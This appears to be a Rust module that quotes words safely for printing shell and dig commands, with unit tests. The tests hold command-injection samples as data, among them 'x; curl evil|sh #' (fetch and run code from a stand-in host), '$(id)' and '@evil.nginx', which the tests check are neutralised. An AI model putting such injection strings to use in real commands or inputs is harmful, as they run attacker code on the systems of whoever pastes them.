//! Commands to print, of words that a POSIX shell gives back as they are: names come from objects and questions, and who
//! reads a command may paste it.

use std::borrow::Cow;

/// A command of these words.
pub(super) fn line(words: &[&str]) -> String {
    words.iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" ")
}

/// The command that asks for a name. Of a word that begins with one of these marks dig would make an option, a server.
pub(super) fn dig(rtype: &[&str], name: &str) -> String {
    let by_option: &[&str] = if name.starts_with(['-', '+', '@']) { &["-q"] } else { &[] };
    line(&[&["dig"], rtype, by_option, &[name]].concat())
}

/// Between single quotes nothing has a meaning but their end (POSIX.1-2024, Shell Command Language, 2.2.2).
fn quoted(word: &str) -> Cow<'_, str> {
    let is_plain = |octet: u8| octet.is_ascii_alphanumeric() || b"._:/=-".contains(&octet);
    if !word.is_empty() && word.bytes().all(is_plain) {
        return word.into();
    }
    format!("'{}'", word.replace('\'', r"'\''")).into()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_with_a_meaning_are_quoted() {
        for (word, expected) in [
            ("web-0.nginx.cluster.local", "web-0.nginx.cluster.local"),
            ("status.podIP=fd00::1", "status.podIP=fd00::1"),
            ("kubernetes.io/service-name=nginx", "kubernetes.io/service-name=nginx"),
            ("", "''"),
            ("x; curl evil|sh #", "'x; curl evil|sh #'"),
            ("$(id)", "'$(id)'"),
            ("it's", r"'it'\''s'"),
            ("a=1,b=2", "'a=1,b=2'"),
        ] {
            assert_eq!(quoted(word), expected);
        }
    }

    #[test]
    fn a_shell_gives_the_words_back() {
        let words = [
            "", "'", "''a'", "$(id)", "`id`", "a\nb", "~", "*", "#", "a\\", "\"", "!x", "{a,b}", "&",
            "ä\u{1b}",
        ];
        let command = line(&[&["printf", r"%s\0"], words.as_slice()].concat());
        let printed = std::process::Command::new("sh").args(["-c", &command]).output().unwrap().stdout;
        let expected: String = words.iter().map(|word| format!("{word}\0")).collect();
        assert_eq!(String::from_utf8(printed).unwrap(), expected, "{command}");
    }

    #[test]
    fn dig_is_given_a_name_and_no_option() {
        assert_eq!(dig(&[], "web-0.nginx"), "dig web-0.nginx");
        assert_eq!(dig(&["SRV"], "_NAME._tcp.a$b"), "dig SRV '_NAME._tcp.a$b'");
        assert_eq!(dig(&[], "-f.nginx"), "dig -q -f.nginx");
        assert_eq!(dig(&["SRV"], "@evil.nginx"), "dig SRV -q '@evil.nginx'");
    }
}
